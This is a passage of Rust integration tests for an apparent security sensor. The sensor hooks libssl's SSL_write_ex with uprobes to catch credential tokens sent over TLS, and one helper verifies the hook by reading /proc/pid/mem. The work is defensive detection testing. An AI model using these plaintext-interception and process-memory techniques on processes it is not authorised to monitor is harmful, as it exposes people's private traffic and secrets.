            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .any(|v| {
                v["event"] == "write" && v["process"]["pid"] == pid && v["fd_kind"] == "socket"
            })
    });
    assert!(sni_seen);
    let (out, err) = cli.stop();
    assert!(
        !out.lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .any(|v| v["process"]["pid"] == pid && v["tls"].is_string()),
        "plaintext from an unhooked stack?"
    );
    assert!(
        err.contains("TLS stack without a hook") && err.contains("bun-patched"),
        "the daemon log names the unhooked binary:\n{err}"
    );
    assert_no_raw_tokens(&out, &err);
}

/// The first byte at `SSL_write_ex` of the libssl mapped by `pid` (0xCC where a uprobe's
/// breakpoint is installed in that process).
fn ssl_write_byte(pid: u32) -> u8 {
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
    let line = maps
        .lines()
        .find(|l| l.contains("libssl.so") && l.split_whitespace().nth(1) == Some("r-xp"))
        .expect("libssl mapped");
    let path = line.split_whitespace().last().unwrap();
    let a = sensor::kernel::uprobes::analyze(Path::new(path)).unwrap();
    let off = a
        .hooks
        .iter()
        .find(|h| h.function == "SSL_write_ex")
        .unwrap()
        .offset;
    let mut f = line.split_whitespace();
    let range = f.next().unwrap();
    let map_off = u64::from_str_radix(f.nth(1).unwrap(), 16).unwrap();
    let start = u64::from_str_radix(range.split('-').next().unwrap(), 16).unwrap();
    let addr = start + off - map_off;
    let mut mem = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
    use std::io::{Read, Seek};
    mem.seek(std::io::SeekFrom::Start(addr)).unwrap();
    let mut b = [0u8; 1];
    mem.read_exact(&mut b).unwrap();
    b[0]
}

#[test]
fn per_process_attach_hooks_only_watched_processes() {
    let dir = temp_dir("tls-perproc");
    let pki = pki(&dir);
    let srv = server(&dir, &pki, "http1");
    let cred = credential_file(&dir);
    let script = dir.join("client.py");
    std::fs::write(&script, CLIENT_PY).unwrap();
    let port = srv.port.to_string();
    let args = |mode: &'static str| -> Vec<String> {
        vec![
            script.display().to_string(),
            cred.display().to_string(),
            port.clone(),
            pki.ca.display().to_string(),
            mode.to_string(),
        ]
    };
    // An unwatched process with libssl mapped, parked on stdin.
    let bystander = Command::new("/usr/bin/python3")
        .args(args("send"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let agent = launcher(&dir, "tlsagent-perproc");
    let cli = SensorCli::start_with(&dir, "tlsagent-perproc", "tls_attach: per_process\n");
    let a: Vec<String> = args("send");
    let a: Vec<&str> = a.iter().map(|s| s.as_str()).collect();
    let c = spawn_client(&agent, &[], "/usr/bin/python3", &a);
    let pid = c.id();
    cli.wait_hooked(pid);
    // The breakpoint is in the watched process only.
    assert_eq!(ssl_write_byte(pid), 0xcc, "watched process not hooked");
    assert_ne!(
        ssl_write_byte(bystander.id()),
        0xcc,
        "unwatched process hooked"
    );
    assert_eq!(release_and_wait(c, "go\n").trim(), "ok");
    let f = cli.wait_finding(GH).expect("finding");
    assert_file_token_over_tls(&f, pid, "SSL_write");
    // The bystander's own request is not seen at all.
    let bpid = bystander.id();
    assert_eq!(release_and_wait(bystander, "go\n").trim(), "ok");
    let (out, err) = cli.stop();
    assert!(!out
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .any(|v| v["process"]["pid"] == bpid));
    assert_no_raw_tokens(&out, &err);
}
